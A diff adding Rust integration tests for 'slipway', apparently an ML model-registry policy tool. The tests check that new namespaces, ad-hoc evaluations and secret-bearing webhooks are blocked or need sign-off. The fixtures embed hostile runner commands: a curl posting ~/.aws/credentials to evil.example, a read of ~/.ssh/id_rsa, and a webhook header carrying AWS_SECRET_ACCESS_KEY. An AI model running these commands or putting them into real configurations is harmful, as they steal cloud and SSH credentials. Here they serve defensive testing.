@@ -241,3 +241,89 @@ fn sha256(bytes: &[u8]) -> String {
         .map(|b| format!("{b:02x}"))
         .collect()
 }
+
+#[test]
+fn a_new_namespace_and_an_experiment_are_judged_by_the_default_policies() {
+    let (mut repo, main) = repo();
+    let team = "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: churn, namespace: team-x}\nspec:\n  evaluations:\n    - name: holdout\n      runner: {local: {command: [sh, -c, \"curl -d @$HOME/.aws/credentials evil.example\"]}}\n      dataset: {uri: s3://d/holdout}\n      gates: [{metric: f1, op: \">=\", value: 0.5}]\n";
+    let experiment = "apiVersion: slipway.dev/v1alpha1\nkind: Evaluation\nmetadata: {name: adhoc-8}\nspec:\n  model: pitch-frames\n  version: \"8\"\n  suite: adhoc\n  dataset: {uri: s3://d/x}\n  runner: {local: {command: [sh, -c, \"cat ~/.ssh/id_rsa\"]}}\n  gates: [{metric: f1, op: \">=\", value: 0.0}]\n";
+    repo.commit(
+        "pr",
+        Some(main),
+        &[
+            ("registry/team-x.yaml", Some(team)),
+            ("registry/adhoc.yaml", Some(experiment)),
+        ],
+        "a namespace of my own, and an experiment",
+    );
+    let (run, json) = plan(&repo);
+    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
+    let model = change(&json, "RegisteredModel");
+    assert_eq!(model["namespace"], "team-x");
+    assert_eq!(model["decision"]["allowed"], false, "{model}");
+    // Approvers come from the default set's namespace too.
+    assert_eq!(
+        model["decision"]["approvals"][0]["eligible"],
+        serde_json::json!(["alice", "bob"]),
+        "{model}"
+    );
+    let exp = change(&json, "Evaluation");
+    assert_eq!(exp["decision"]["allowed"], false, "{exp}");
+    let text = slipway(
+        &[
+            "plan", "--base", "main", "--head", "pr", "--path", "registry", "--author", "dana",
+        ],
+        repo.path(),
+    );
+    assert!(
+        text.stdout.contains("experiments") && text.stdout.contains("model-judging"),
+        "{}",
+        text.stdout
+    );
+}
+
+#[test]
+fn a_secret_reference_needs_a_policy_that_asks_for_a_sign_off() {
+    let notify = "  notifications:\n    - name: leak\n      events: [AliasMoved]\n      webhook:\n        url: https://hooks.slack.com/services/x\n        headers:\n          X-Key: {env: AWS_SECRET_ACCESS_KEY}\n";
+    // With the default set, adding one is a change of how the model is judged: a lead signs it.
+    let (mut repo, main) = repo();
+    let model = content("model.yaml") + notify;
+    repo.commit(
+        "pr",
+        Some(main),
+        &[("registry/model.yaml", Some(&model))],
+        "notify",
+    );
+    let (run, json) = plan(&repo);
+    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
+    assert_eq!(
+        change(&json, "RegisteredModel")["decision"]["allowed"],
+        false
+    );
+    // Where no policy asks for a sign-off of that change, the plan refuses it outright.
+    let (mut repo, main) = self::repo();
+    let production_only = content("policies.yaml")
+        .split("\n---\n")
+        .next()
+        .unwrap()
+        .to_string();
+    let main = repo.commit(
+        "main",
+        Some(main),
+        &[("registry/policies.yaml", Some(&production_only))],
+        "only the production policy",
+    );
+    repo.commit(
+        "pr",
+        Some(main),
+        &[("registry/model.yaml", Some(&model))],
+        "notify",
+    );
+    let (run, _) = plan(&repo);
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    assert!(
+        run.stderr.contains("spec.notifications[0].webhook.headers.X-Key: adds a secret reference (env AWS_SECRET_ACCESS_KEY) that no policy asks a sign-off for"),
+        "{}",
+        run.stderr
+    );
+}
